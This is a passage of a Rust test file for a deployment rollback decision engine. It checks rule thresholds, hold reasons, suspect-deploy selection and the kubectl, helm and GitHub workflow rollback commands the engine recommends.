use super::*;
use crate::domain::DeploySource;
use crate::domain::deploy::is_healthy_status;
use crate::domain::policy::Verification;
use crate::domain::{Deploy, Mode, Scope, SignalSource, TargetRef};

/// A time on the test day: `at("10:05")` or `at("10:05:30")`.
fn at(hm: &str) -> DateTime<Utc> {
    let hms = if hm.len() == 5 {
        format!("{hm}:00")
    } else {
        hm.to_string()
    };
    format!("2026-08-22T{hms}Z").parse().unwrap()
}

/// Fourteen minutes after revision 7 went out: a fresh signal is inside the blame window.
fn now() -> DateTime<Utc> {
    at("10:14")
}

fn ago(secs: i64) -> DateTime<Utc> {
    now() - Duration::seconds(secs)
}

fn workload() -> TargetRef {
    TargetRef::deployment("prod-eu", "shop", "checkout")
}

fn target() -> Target {
    Target {
        target: workload(),
        region: Some("eu-west-1".into()),
        service: None,
        environment: Some("production".into()),
        mode: Mode::Auto,
        helm_release: None,
        cd_workflow: None,
        dependencies: vec!["database".into(), "cache".into()],
        gitops: None,
        argocd_app: None,
        actions: Vec::new(),
    }
}

fn deploy(
    id: i64,
    source: DeploySource,
    revision: &str,
    status: &str,
    started: DateTime<Utc>,
) -> DeployRecord {
    let target = match source {
        DeploySource::Helm => TargetRef::helm_release("prod-eu", "shop", "checkout"),
        _ => workload(),
    };
    let mut deploy = Deploy::new(target, source, revision, status, started);
    deploy.images = vec![format!("ghcr.io/acme/checkout:v2.{revision}")];
    deploy.region = Some("eu-west-1".into());
    DeployRecord { id, deploy }
}

fn rollout(id: i64, revision: &str, status: &str, started: DateTime<Utc>) -> DeployRecord {
    deploy(id, DeploySource::Kubernetes, revision, status, started)
}

/// Revision 6 ran well from 09:00; revision 7 went out at 10:00.
fn history() -> Vec<DeployRecord> {
    vec![
        rollout(6, "6", "superseded", at("09:00")),
        rollout(7, "7", "deployed", at("10:00")),
    ]
}

fn signal(kind: SignalKind, value: Option<f64>, started: DateTime<Utc>) -> Signal {
    Signal {
        kind,
        target: Some(workload()),
        scope: Scope::Any,
        dependency: None,
        value,
        baseline: None,
        inconclusive: None,
        started_at: started,
        ended_at: None,
        observations: 1,
        source: SignalSource::Alert,
        fingerprint: format!("fp-{}", kind.as_str()),
        summary: format!("{} alert", kind.as_str()),
    }
}

/// A signal that started two minutes ago: past the deploy, short of G2's 5 minutes.
fn fresh(kind: SignalKind, value: f64) -> Signal {
    signal(kind, Some(value), ago(120))
}

fn canary(kind: SignalKind, value: f64, baseline: f64) -> Signal {
    Signal {
        scope: Scope::Canary,
        baseline: Some(baseline),
        ..fresh(kind, value)
    }
}

fn dependency(name: &str) -> Signal {
    Signal {
        target: None,
        dependency: Some(name.into()),
        fingerprint: format!("fp-{name}"),
        ..signal(SignalKind::Dependency, None, ago(600))
    }
}

fn run(deploys: &[DeployRecord], signals: &[Signal]) -> Decision {
    decide(
        &Policy::default(),
        &target(),
        deploys,
        signals,
        &[],
        &History::default(),
        now(),
    )
}

fn run_with(policy: &Policy, signals: &[Signal]) -> Decision {
    decide(
        policy,
        &target(),
        &history(),
        signals,
        &[],
        &History::default(),
        now(),
    )
}

fn policy_without(ids: &[&str]) -> Policy {
    let mut policy = Policy::default();
    policy.rules.retain(|r| !ids.contains(&r.id.as_str()));
    policy
}

fn fired(d: &Decision) -> Vec<&str> {
    d.fired.iter().map(|f| f.rule_id.as_str()).collect()
}

fn codes(d: &Decision) -> Vec<&'static str> {
    d.holds.iter().map(HoldReason::code).collect()
}

/// Runs each (signal, expected verdict, whether `rule` fires) case.
fn edges(rule: &str, policy: &Policy, cases: &[(Signal, Verdict, bool)]) {
    for (signal, verdict, fires) in cases {
        let d = run_with(policy, std::slice::from_ref(signal));
        assert_eq!(
            (d.verdict, d.has_fired(rule)),
            (*verdict, *fires),
            "{rule} at value {:?} baseline {:?}: {}",
            signal.value,
            signal.baseline,
            d.reason
        );
    }
}

#[test]
fn c1_rolls_back_a_canary_error_rate_above_baseline_plus_half_a_point() {
    use SignalKind::ErrorRate;
    edges(
        "C1",
        &Policy::default(),
        &[
            (canary(ErrorRate, 0.0149, 0.01), Verdict::Monitor, false),
            (canary(ErrorRate, 0.015, 0.01), Verdict::Monitor, false),
            (canary(ErrorRate, 0.0151, 0.01), Verdict::Rollback, true),
        ],
    );
    let d = run_with(&Policy::default(), &[canary(ErrorRate, 0.0151, 0.01)]);
    let c1 = &d.fired[0];
    assert_eq!(c1.rule_id, "C1");
    assert_eq!(c1.condition, "> baseline + 0.5 pp");
    assert!((c1.threshold.unwrap() - 0.015).abs() < 1e-12);
    assert_eq!((c1.observed, c1.baseline), (Some(0.0151), Some(0.01)));
}

#[test]
fn c1_ignores_signals_that_are_not_from_the_canary() {
    let stable = Signal {
        baseline: Some(0.001),
        ..fresh(SignalKind::ErrorRate, 0.009)
    };
    let d = run(&history(), &[stable]);
    assert!(!d.has_fired("C1"));
}

#[test]
fn c2_rolls_back_a_canary_latency_above_one_and_a_half_times_baseline() {
    use SignalKind::LatencyP95;
    edges(
        "C2",
        &Policy::default(),
        &[
            (canary(LatencyP95, 0.29, 0.2), Verdict::Ok, false),
            (canary(LatencyP95, 0.3, 0.2), Verdict::Ok, false),
            (canary(LatencyP95, 0.31, 0.2), Verdict::Rollback, true),
        ],
    );
}

#[test]
fn c3_rolls_back_a_canary_cpu_above_ninety_percent() {
    use SignalKind::Cpu;
    edges(
        "C3",
        &Policy::default(),
        &[
            (canary(Cpu, 0.89, 0.3), Verdict::Ok, false),
            (canary(Cpu, 0.9, 0.3), Verdict::Ok, false),
            (canary(Cpu, 0.91, 0.3), Verdict::Rollback, true),
            (fresh(Cpu, 0.95), Verdict::Ok, false),
        ],
    );
}

#[test]
fn c4_rolls_back_a_canary_memory_above_ninety_percent() {
    use SignalKind::Memory;
    edges(
        "C4",
        &Policy::default(),
        &[
            (canary(Memory, 0.9, 0.5), Verdict::Ok, false),
            (canary(Memory, 0.901, 0.5), Verdict::Rollback, true),
            (fresh(Memory, 0.99), Verdict::Ok, false),
        ],
    );
}

#[test]
fn m1_monitors_an_error_rate_above_one_percent() {
    use SignalKind::ErrorRate;
    edges(
        "M1",
        &Policy::default(),
        &[
            (fresh(ErrorRate, 0.009), Verdict::Ok, false),
            (fresh(ErrorRate, 0.01), Verdict::Ok, false),
            (fresh(ErrorRate, 0.011), Verdict::Monitor, true),
        ],
    );
}

#[test]
fn m2_rolls_back_an_error_rate_above_five_percent() {
    use SignalKind::ErrorRate;
    edges(
        "M2",
        &Policy::default(),
        &[
            (fresh(ErrorRate, 0.049), Verdict::Monitor, false),
            (fresh(ErrorRate, 0.05), Verdict::Monitor, false),
            (fresh(ErrorRate, 0.051), Verdict::Rollback, true),
        ],
    );
    let d = run(&history(), &[fresh(ErrorRate, 0.051)]);
    assert_eq!(fired(&d), ["M1", "M2"]);
}

#[test]
fn m3_monitors_a_latency_above_twice_baseline() {
    use SignalKind::LatencyP95;
    let latency = |v| Signal {
        baseline: Some(0.2),
        ..fresh(LatencyP95, v)
    };
    // The matrix's own word in the default policy: monitor between 2× and 3×.
    edges(
        "M3",
        &Policy::default(),
        &[
            (latency(0.39), Verdict::Ok, false),
            (latency(0.4), Verdict::Ok, false),
            (latency(0.41), Verdict::Monitor, true),
        ],
    );
    // In the default policy, on a canary, C2 already rolls back at 1.5×.
    let d = run_with(&Policy::default(), &[canary(LatencyP95, 0.41, 0.2)]);
    assert_eq!(fired(&d), ["C2", "M3"]);
    assert_eq!(d.verdict, Verdict::Rollback);
}

#[test]
fn m4_rolls_back_a_latency_above_three_times_baseline() {
    use SignalKind::LatencyP95;
    let latency = |v| Signal {
        baseline: Some(0.2),
        ..fresh(LatencyP95, v)
    };
    edges(
        "M4",
        &policy_without(&["G4"]),
        &[
            (latency(0.58), Verdict::Monitor, false),
            (latency(0.6), Verdict::Monitor, false),
            (latency(0.62), Verdict::Rollback, true),
        ],
    );
    edges(
        "M4",
        &Policy::default(),
        &[
            (latency(0.58), Verdict::Monitor, false),
            (latency(0.62), Verdict::Rollback, true),
        ],
    );
}

#[test]
fn m5_investigates_more_than_five_customer_reports_in_five_minutes() {
    use SignalKind::CustomerReports;
    edges(
        "M5",
        &Policy::default(),
        &[
            (fresh(CustomerReports, 5.0), Verdict::Ok, false),
            (fresh(CustomerReports, 6.0), Verdict::Investigate, true),
        ],
    );
}

#[test]
fn m6_rolls_back_more_than_twenty_customer_reports_in_five_minutes() {
    use SignalKind::CustomerReports;
    edges(
        "M6",
        &Policy::default(),
        &[
            (fresh(CustomerReports, 20.0), Verdict::Investigate, false),
            (fresh(CustomerReports, 21.0), Verdict::Rollback, true),
        ],
    );
}

#[test]
fn m7_rolls_back_on_any_sla_violation() {
    let d = run(
        &history(),
        &[signal(SignalKind::SlaViolation, None, ago(10))],
    );
    assert_eq!((d.verdict, fired(&d)), (Verdict::Rollback, vec!["M7"]));
}

#[test]
fn m8_freezes_and_escalates_on_any_data_corruption() {
    let d = run(
        &history(),
        &[signal(SignalKind::DataCorruption, None, ago(10))],
    );
    assert_eq!(d.verdict, Verdict::Freeze);
    assert_eq!(fired(&d), ["M8"]);
    assert!(
        d.escalate
            .as_deref()
            .unwrap()
            .starts_with("M8: data corruption")
    );
    assert!(d.reason.starts_with("Freeze deployments and escalate"));
    assert!(d.holds.is_empty());
    assert!(d.recommended.is_empty());
}

#[test]
fn m8_wins_over_a_rollback_and_the_rollback_is_recommended_for_approval() {
    let d = run(
        &history(),
        &[
            signal(SignalKind::DataCorruption, None, ago(10)),
            fresh(SignalKind::ErrorRate, 0.2),
        ],
    );
    assert_eq!(d.verdict, Verdict::Freeze);
    assert!(d.reason.contains("admitted once an operator approves it"));
    assert_eq!(
        d.recommended[0],
        "kubectl -n shop rollout undo deployment/checkout --to-revision=6"
    );
}

#[test]
fn m8_still_freezes_when_the_rollback_beside_it_is_held() {
    let d = run(
        &history(),
        &[
            signal(SignalKind::DataCorruption, None, ago(10)),
            fresh(SignalKind::ErrorRate, 0.2),
            dependency("database"),
        ],
    );
    assert_eq!((d.verdict, codes(&d)), (Verdict::Freeze, vec!["H2"]));
    assert!(
        d.reason
            .contains("the rollback that M2 calls for is held: H2"),
        "{}",
        d.reason
    );
    assert!(d.recommended.is_empty());
}

#[test]
fn g1_rolls_back_health_checks_failing_three_minutes_after_a_deploy() {
    let health = |secs| signal(SignalKind::HealthCheck, None, ago(secs));
    // Before G1 fires, the failing health check is pending: monitor, never ok.
    assert_eq!(run(&history(), &[health(179)]).verdict, Verdict::Monitor);
    let d = run(&history(), &[health(181)]);
    assert_eq!((d.verdict, fired(&d)), (Verdict::Rollback, vec!["G1"]));
    assert_eq!(d.fired[0].duration_secs, Some(181));
}

#[test]
fn g1_needs_a_deploy_before_the_failure_inside_the_window() {
    let health = signal(SignalKind::HealthCheck, None, ago(181));
    assert_eq!(
        run(&[], std::slice::from_ref(&health)).verdict,
        Verdict::Monitor
    );
    let long_ago = [rollout(
        6,
        "6",
        "deployed",
        health.started_at - Duration::hours(3),
    )];
    assert!(!run(&long_ago, std::slice::from_ref(&health)).has_fired("G1"));
    let after = [rollout(
        7,
        "7",
        "deployed",
        health.started_at + Duration::seconds(30),
    )];
    assert!(!run(&after, std::slice::from_ref(&health)).has_fired("G1"));
}

#[test]
fn g2_rolls_back_an_error_rate_over_the_slo_threshold_for_five_minutes() {
    let rate = |secs| signal(SignalKind::ErrorRate, Some(0.02), ago(secs));
    let d = run(&history(), &[rate(299)]);
    assert_eq!((d.verdict, fired(&d)), (Verdict::Monitor, vec!["M1"]));
    for secs in [300, 301] {
        let d = run(&history(), &[rate(secs)]);
        assert_eq!(
            (d.verdict, fired(&d)),
            (Verdict::Rollback, vec!["M1", "G2"]),
            "{secs}"
        );
    }
}

#[test]
fn g3_rolls_back_crash_loops_failing_readiness_and_slo_burn() {
    for kind in [
        SignalKind::CrashLoop,
        SignalKind::Readiness,
        SignalKind::SloBurn,
    ] {
        for scope in [Scope::Any, Scope::Canary, Scope::Stable] {
            let s = Signal {
                scope,
                ..signal(kind, None, ago(30))
            };
            let d = run(&history(), &[s]);
            assert_eq!(
                (d.verdict, fired(&d)),
                (Verdict::Rollback, vec!["G3"]),
                "{kind:?} {scope:?}"
            );
            assert_eq!(d.fired[0].kinds, [kind]);
        }
    }
}

#[test]
fn g4_rolls_back_a_regression_against_the_last_known_good_version() {
    use SignalKind::{ErrorRate, LatencyP95};
    let stable = |kind, v, b| Signal {
        scope: Scope::Stable,
        baseline: Some(b),
        ..fresh(kind, v)
    };
    // Three minutes old, ten minutes after revision 7: G4's duration and deploy gates
    // pass (they and the 1 % floor are tested in precision_tests).
    let lasting = |s: Signal| Signal {
        started_at: ago(240),
        ..s
    };
    edges(
        "G4",
        &Policy::default(),
        &[
            (
                lasting(stable(ErrorRate, 0.0119, 0.004)),
                Verdict::Monitor,
                false,
            ),
            (
                lasting(stable(ErrorRate, 0.012, 0.004)),
                Verdict::Monitor,
                false,
            ),
            (
                lasting(stable(ErrorRate, 0.0121, 0.004)),
                Verdict::Rollback,
                true,
            ),
            // Past 3× but under the floor (M1's 1 %).
            (
                lasting(stable(ErrorRate, 0.0031, 0.001)),
                Verdict::Ok,
                false,
            ),
            // Not yet three minutes.
            (stable(ErrorRate, 0.0121, 0.004), Verdict::Monitor, false),
            // Between 2× and 3× the matrix only monitors (M3).
            (
                lasting(stable(LatencyP95, 0.5, 0.2)),
                Verdict::Monitor,
                false,
            ),
            (
                lasting(stable(LatencyP95, 0.61, 0.2)),
                Verdict::Rollback,
                true,
            ),
            (
                Signal {
                    scope: Scope::Any,
                    ..lasting(stable(ErrorRate, 0.0121, 0.004))
                },
                Verdict::Rollback,
                true,
            ),
            // A canary is C1's and C2's business.
            (
                lasting(canary(ErrorRate, 0.0121, 0.004)),
                Verdict::Rollback,
                false,
            ),
        ],
    );
}

#[test]
fn a_rule_waits_for_its_minimum_observations() {
    let mut policy = Policy::default();
    policy
        .rules
        .iter_mut()
        .find(|r| r.id == "M2")
        .unwrap()
        .min_observations = 3;
    let rate = |n| Signal {
        observations: n,
        ..fresh(SignalKind::ErrorRate, 0.2)
    };
    assert!(!run_with(&policy, &[rate(2)]).has_fired("M2"));
    assert!(run_with(&policy, &[rate(3)]).has_fired("M2"));
}

#[test]
fn only_signals_active_at_now_count() {
    let resolved = Signal {
        ended_at: Some(ago(60)),
        ..fresh(SignalKind::ErrorRate, 0.2)
    };
    let ending_now = Signal {
        ended_at: Some(now()),
        ..fresh(SignalKind::ErrorRate, 0.2)
    };
    let future = signal(
        SignalKind::ErrorRate,
        Some(0.2),
        now() + Duration::minutes(1),
    );
    let d = run(&history(), &[resolved, ending_now, future]);
    assert_eq!(d.verdict, Verdict::Ok);
    assert_eq!(
        d.reason,
        "No signal is active for prod-eu/shop/Deployment/checkout."
    );
}

#[test]
fn the_strongest_signal_is_shown_and_every_fingerprint_cited() {
    let a = Signal {
        fingerprint: "fp-a".into(),
        ..signal(SignalKind::ErrorRate, Some(0.07), ago(200))
    };
    let b = Signal {
        fingerprint: "fp-b".into(),
        ..fresh(SignalKind::ErrorRate, 0.09)
    };
    let d = run(&history(), &[a.clone(), b]);
    let m2 = d.fired.iter().find(|f| f.rule_id == "M2").unwrap();
    assert_eq!(m2.observed, Some(0.09));
    assert_eq!(m2.fingerprints, ["fp-a", "fp-b"]);
    assert_eq!(m2.started_at, a.started_at);
    assert_eq!(d.regression_started_at, Some(a.started_at));
}

#[test]
fn the_suspect_is_the_latest_deploy_before_the_regression_and_the_target_the_last_healthy_one_before_it()
 {
    let deploys = [
        rollout(5, "5", "superseded", at("08:00")),
        rollout(6, "6", "failed", at("09:00")),
        rollout(7, "7", "deployed", at("10:00")),
    ];
    let d = run(&deploys, &[fresh(SignalKind::ErrorRate, 0.07)]);
    assert_eq!(d.verdict, Verdict::Rollback);
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(7));
    assert_eq!(d.rollback_to.as_ref().map(|s| s.id), Some(5));
    assert_eq!(
        d.recommended,
        [
            "kubectl -n shop rollout undo deployment/checkout --to-revision=5",
            "kubectl -n shop rollout status deployment/checkout --watch",
        ]
    );
}

#[test]
fn a_rollout_is_suspected_rather_than_its_helm_revision_within_a_minute() {
    let mut t = target();
    t.helm_release = Some("checkout".into());
    let deploys = [
        rollout(6, "6", "superseded", at("09:00")),
        deploy(11, DeploySource::Helm, "11", "superseded", at("09:00:10")),
        rollout(7, "7", "deployed", at("10:00")),
        deploy(12, DeploySource::Helm, "12", "deployed", at("10:00:40")),
    ];
    let d = decide(
        &Policy::default(),
        &t,
        &deploys,
        &[fresh(SignalKind::ErrorRate, 0.07)],
        &[],
        &History::default(),
        now(),
    );
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(7));
    assert_eq!(d.rollback_to.as_ref().map(|s| s.id), Some(6));
    assert_eq!(
        d.recommended,
        [
            "kubectl -n shop rollout undo deployment/checkout --to-revision=6",
            "kubectl -n shop rollout status deployment/checkout --watch",
            "helm rollback checkout 11 -n shop --cleanup-on-fail",
        ]
    );
}

#[test]
fn a_helm_revision_more_than_a_minute_after_the_rollout_is_its_own_suspect() {
    let deploys = [
        rollout(6, "6", "superseded", at("09:00")),
        deploy(11, DeploySource::Helm, "11", "superseded", at("09:30")),
        rollout(7, "7", "deployed", at("10:00")),
        deploy(12, DeploySource::Helm, "12", "deployed", at("10:02")),
    ];
    let d = run(&deploys, &[fresh(SignalKind::ErrorRate, 0.07)]);
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(12));
    assert_eq!(d.rollback_to.as_ref().map(|s| s.id), Some(11));
    assert_eq!(
        d.recommended,
        ["helm rollback checkout 11 -n shop --cleanup-on-fail"]
    );
}

#[test]
fn canary_controller_records_are_suspected_only_when_nothing_else_is() {
    let flagger = deploy(20, DeploySource::Flagger, "3", "succeeded", at("10:10"));
    let with_rollout = [history(), vec![flagger.clone()]].concat();
    let d = run(&with_rollout, &[fresh(SignalKind::ErrorRate, 0.07)]);
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(7));
    let flagger_only = [
        deploy(19, DeploySource::Flagger, "2", "succeeded", at("09:00")),
        flagger,
    ];
    let d = run(&flagger_only, &[fresh(SignalKind::ErrorRate, 0.07)]);
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(20));
    assert_eq!(d.rollback_to.as_ref().map(|s| s.id), Some(19));
    // A promoted run is undone like any deploy; no revision of a known source to
    // name: its images are set back (never an undo to whatever is previous).
    assert_eq!(
        d.recommended[1..],
        [
            "kubectl -n shop set image deployment/checkout checkout=ghcr.io/acme/checkout:v2.2",
            "kubectl -n shop rollout status deployment/checkout --watch",
        ]
    );
    // A run still in progress is its controller's to abort: no command for a
    // person, whose undo would fight the controller.
    let mut running = flagger_only.clone();
    running[1].deploy.status = "progressing".into();
    let d = run(&running, &[fresh(SignalKind::ErrorRate, 0.07)]);
    assert_eq!(d.verdict, Verdict::Rollback);
    assert_eq!(d.rollback_to.as_ref().map(|s| s.id), Some(19));
    assert!(d.recommended.is_empty(), "{:?}", d.recommended);
}

#[test]
fn the_cd_workflow_is_dispatched_with_the_known_good_image_tag() {
    let mut t = target();
    t.cd_workflow = Some("cd-rollback.yml".into());
    let deploys = [
        deploy(30, DeploySource::Ci, "2230", "succeeded", at("09:00")),
        deploy(31, DeploySource::Ci, "2231", "succeeded", at("10:00")),
    ];
    let d = decide(
        &Policy::default(),
        &t,
        &deploys,
        &[fresh(SignalKind::ErrorRate, 0.07)],
        &[],
        &History::default(),
        now(),
    );
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(31));
    assert_eq!(
        d.recommended,
        ["gh workflow run cd-rollback.yml -f environment=production -f image_tag=v2.2230"]
    );
}

#[test]
fn a_ci_run_and_its_rollout_are_one_change_and_every_way_back_is_recommended() {
    let mut t = target();
    t.cd_workflow = Some("cd-rollback.yml".into());
    t.helm_release = Some("checkout".into());
    let deploys = [
        deploy(30, DeploySource::Ci, "2230", "succeeded", at("08:59:40")),
        rollout(6, "6", "superseded", at("09:00")),
        deploy(11, DeploySource::Helm, "11", "superseded", at("09:00:05")),
        rollout(7, "7", "deployed", at("10:00")),
        deploy(12, DeploySource::Helm, "12", "deployed", at("10:00:05")),
        deploy(31, DeploySource::Ci, "2231", "succeeded", at("10:00:20")),
    ];
    let d = decide(
        &Policy::default(),
        &t,
        &deploys,
        &[fresh(SignalKind::ErrorRate, 0.07)],
        &[],
        &History::default(),
        now(),
    );
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(7));
    assert_eq!(
        d.recommended,
        [
            "kubectl -n shop rollout undo deployment/checkout --to-revision=6",
            "kubectl -n shop rollout status deployment/checkout --watch",
            "helm rollback checkout 11 -n shop --cleanup-on-fail",
            "gh workflow run cd-rollback.yml -f environment=production -f image_tag=v2.2230",
        ]
    );
}

#[test]
fn a_rollback_reason_names_the_versions_the_rules_and_the_timing() {
    let d = run(&history(), &[fresh(SignalKind::ErrorRate, 0.07)]);
    assert_eq!(
        d.reason,
        "Roll back prod-eu/shop/Deployment/checkout from kubernetes revision 7 (v2.7) to \
         kubernetes revision 6 (v2.6): M2 (error_rate at 7 %, > 5 %) since \
         2026-08-22 10:12 UTC, 12 min after the suspect deploy started."
    );
}

#[test]
fn h1_holds_when_the_regression_predates_the_latest_deploy() {
    let deploys = [vec![rollout(5, "5", "superseded", at("08:00"))], history()].concat();
    let d = run(
        &deploys,
        &[signal(SignalKind::ErrorRate, Some(0.07), at("09:30"))],
    );
    assert_eq!(d.verdict, Verdict::Hold);
    assert_eq!(codes(&d), ["H1"]);
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(6));
    assert!(d.reason.starts_with(
        "Hold the rollback of prod-eu/shop/Deployment/checkout that M2, G2 call for: H1: the \
         regression started at 2026-08-22 09:30 UTC before the latest deploy (kubernetes \
         revision 7"
    ));
    assert!(d.recommended.is_empty());
}

#[test]
fn h1_does_not_hold_a_regression_that_started_with_the_deploy() {
    let d = run(
        &history(),
        &[signal(SignalKind::ErrorRate, Some(0.07), at("10:00"))],
    );
    assert_eq!(d.verdict, Verdict::Rollback);
}

#[test]
fn h2_holds_when_a_dependency_of_the_target_is_degraded() {
    let rate = fresh(SignalKind::ErrorRate, 0.07);
    for name in ["database", "Database", " cache "] {
        let d = run(&history(), &[rate.clone(), dependency(name)]);
        assert_eq!(
            (d.verdict, codes(&d)),
            (Verdict::Hold, vec!["H2"]),
            "{name}"
        );
        assert!(d.reason.contains("is degraded since"), "{}", d.reason);
    }
    match &run(&history(), &[rate.clone(), dependency("database")]).holds[0] {
        HoldReason::DependencyDegraded { dependency, .. } => assert_eq!(dependency, "database"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn h2_ignores_dependencies_that_recovered_before_the_regression_began() {
    let rate = fresh(SignalKind::ErrorRate, 0.07);
    // A regression that began during the outage is the outage's for a while after it
    // (see precision_tests); this one began a minute after the recovery.
    let recovered = Signal {
        ended_at: Some(ago(180)),
        ..dependency("database")
    };
    let d = run(&history(), &[rate.clone(), recovered]);
    assert_eq!(d.verdict, Verdict::Rollback);
    // Any dependency the caller passes concerns the target, declared or not.
    let d = run(&history(), &[rate, dependency("queue")]);
    assert_eq!(d.verdict, Verdict::Hold);
}

#[test]
fn a_signal_flagged_inconclusive_holds_instead_of_rolling_back() {
    let thin = Signal {
        inconclusive: Some("too little traffic".into()),
        ..fresh(SignalKind::ErrorRate, 0.5)
    };
    let d = run(&history(), &[thin]);
    assert_eq!(
        (d.verdict, codes(&d)),
        (Verdict::Hold, vec!["inconclusive"])
    );
    assert!(d.fired.is_empty());
    assert!(d.reason.contains("too little traffic"), "{}", d.reason);
    assert!(d.reason.contains("only evidence"), "{}", d.reason);
    assert_eq!(d.suspect, None);
}

#[test]
fn signals_no_rule_can_assess_are_inconclusive() {
    let cases = [
        (signal(SignalKind::ErrorRate, None, ago(600)), "no value"),
        (fresh(SignalKind::ErrorRate, 5.0), "not a ratio"),
        (fresh(SignalKind::ErrorRate, f64::NAN), "not a number"),
        (fresh(SignalKind::LatencyP95, 2.5), "no baseline"),
        (
            Signal {
                baseline: Some(0.0),
                ..fresh(SignalKind::LatencyP95, 2.5)
            },
            "a baseline of 0",
        ),
        (
            signal(SignalKind::CustomerReports, None, ago(60)),
            "no value",
        ),
    ];
    for (s, why) in cases {
        let d = run(&history(), std::slice::from_ref(&s));
        assert_eq!(d.verdict, Verdict::Hold, "{s:?}");
        match &d.holds[..] {
            [HoldReason::Inconclusive { kind, why: got, .. }] => {
                assert_eq!(*kind, s.kind);
                assert!(got.contains(why), "{got:?} should say {why:?}");
            }
            other => panic!("{other:?}"),
        }
    }
}

/// `n` error-rate alerts without a value, one a second, the latest two minutes old.
fn valueless(n: usize) -> Vec<Signal> {
    (0..n)
        .map(|i| Signal {
            fingerprint: format!("fp-{i:04}"),
            ..signal(
                SignalKind::ErrorRate,
                None,
                ago(120 + i64::try_from(n - i).unwrap()),
            )
        })
        .collect()
}

#[test]
fn inconclusive_signals_of_one_kind_and_reason_are_one_hold_that_counts_them() {
    let mut signals = valueless(1000);
    // The same signal twice counts once; a latency without a baseline is another hold.
    signals.push(signals[7].clone());
    signals.push(Signal {
        fingerprint: "fp-latency".into(),
        ..fresh(SignalKind::LatencyP95, 2.5)
    });
    signals.reverse();
    let d = run(&history(), &signals);
    assert_eq!(d.verdict, Verdict::Hold);
    match &d.holds[..] {
        [
            HoldReason::Inconclusive {
                kind: SignalKind::ErrorRate,
                fingerprint,
                why,
                since,
                signals: 1000,
                fingerprints,
            },
            HoldReason::Inconclusive {
                kind: SignalKind::LatencyP95,
                signals: 1,
                fingerprints: latency,
                ..
            },
        ] => {
            assert_eq!(fingerprint, "fp-0000");
            assert_eq!(why, "no value");
            assert_eq!(*since, Some(ago(1120)));
            let first: Vec<String> = (0..10).map(|i| format!("fp-{i:04}")).collect();
            assert_eq!(fingerprints, &first, "the earliest ten");
            assert_eq!(latency, &["fp-latency".to_string()]);
        }
        other => panic!("{other:?}"),
    }
    assert!(
        d.reason.contains(
            "1000 error_rate signals are inconclusive (no value): fp-0000, fp-0001, \
             fp-0002, fp-0003, fp-0004, fp-0005, fp-0006, fp-0007, fp-0008, fp-0009 and \
             990 more; the latency_p95 signal fp-latency is inconclusive (no baseline)"
        ),
        "{}",
        d.reason
    );
    assert!(!d.reason.contains("fp-0010"), "{}", d.reason);
}

#[test]
fn grouping_inconclusive_holds_changes_no_decision_s_hash() {
    // The hash counts each inconclusive signal, as it did when each had a hold.
    let d = run(&history(), &valueless(3));
    let mut one_each = d.clone();
    one_each.holds = valueless(3)
        .into_iter()
        .map(|s| HoldReason::Inconclusive {
            kind: s.kind,
            fingerprint: s.fingerprint.clone(),
            why: "no value".into(),
            since: Some(s.started_at),
            signals: 1,
            fingerprints: vec![s.fingerprint],
        })
        .collect();
    assert_eq!(d.holds.len(), 1);
    assert_eq!(d.inputs_hash, one_each.compute_inputs_hash());
    // And a fourth signal is a new input.
    assert_ne!(d.inputs_hash, run(&history(), &valueless(4)).inputs_hash);
}

#[test]
fn an_inconclusive_hold_recorded_before_grouping_reads_as_one_signal() {
    let stored = serde_json::json!({
        "code": "inconclusive", "kind": "error_rate", "fingerprint": "fp-old",
        "why": "no value", "since": "2026-08-22T14:00:00Z"
    });
    let hold: HoldReason = serde_json::from_value(stored).unwrap();
    assert!(
        matches!(&hold, HoldReason::Inconclusive { signals: 1, fingerprints, .. } if fingerprints.is_empty()),
        "{hold:?}"
    );
    assert_eq!(
        hold.detail(),
        "the error_rate signal fp-old is inconclusive (no value)"
    );
    // A count without a list names the one fingerprint it has, and the rest as more.
    let counted: HoldReason = serde_json::from_value(serde_json::json!({
        "code": "inconclusive", "kind": "error_rate", "fingerprint": "fp-old",
        "why": "no value", "signals": 5
    }))
    .unwrap();
    assert_eq!(
        counted.detail(),
        "5 error_rate signals are inconclusive (no value): fp-old and 4 more"
    );
}

#[test]
fn a_value_without_a_baseline_is_judged_by_the_absolute_rules() {
    // G4 cannot compare it, but M1/M2 can: that is not inconclusive.
    let d = run(&history(), &[fresh(SignalKind::ErrorRate, 0.02)]);
    assert_eq!((d.verdict, fired(&d)), (Verdict::Monitor, vec!["M1"]));
    assert!(d.holds.is_empty());
}

#[test]
fn inconclusive_evidence_does_not_hold_a_rollback_that_conclusive_evidence_calls_for() {
    let d = run(
        &history(),
        &[
            fresh(SignalKind::ErrorRate, 0.07),
            fresh(SignalKind::LatencyP95, 2.5),
        ],
    );
    assert_eq!(d.verdict, Verdict::Rollback);
    assert!(d.holds.is_empty());
}

#[test]
fn inconclusive_evidence_for_a_rollback_outranks_monitor_and_investigate() {
    let unknown_latency = fresh(SignalKind::LatencyP95, 2.5);
    for other in [
        fresh(SignalKind::ErrorRate, 0.02),
        fresh(SignalKind::CustomerReports, 8.0),
    ] {
        let d = run(&history(), &[other, unknown_latency.clone()]);
        assert_eq!(
            (d.verdict, codes(&d)),
            (Verdict::Hold, vec!["inconclusive"])
        );
    }
}

#[test]
fn signals_no_rollback_rule_watches_are_never_inconclusive() {
    let d = run(
        &history(),
        &[
            signal(SignalKind::Custom, None, ago(60)),
            signal(SignalKind::CanaryFailed, None, ago(60)),
            dependency("database"),
        ],
    );
    assert_eq!(d.verdict, Verdict::Ok);
    assert!(d.holds.is_empty());
}

#[test]
fn no_deploy_in_the_window_holds() {
    let rate = fresh(SignalKind::ErrorRate, 0.07);
    let old = [
        rollout(5, "5", "superseded", at("05:00")),
        rollout(6, "6", "deployed", at("06:00")),
    ];
    for deploys in [&[][..], &old[..]] {
        let d = run(deploys, std::slice::from_ref(&rate));
        assert_eq!(
            (d.verdict, codes(&d)),
            (Verdict::Hold, vec!["no_deploy_in_window"])
        );
        assert!(
            d.reason.contains("in the 2 h before the regression"),
            "{}",
            d.reason
        );
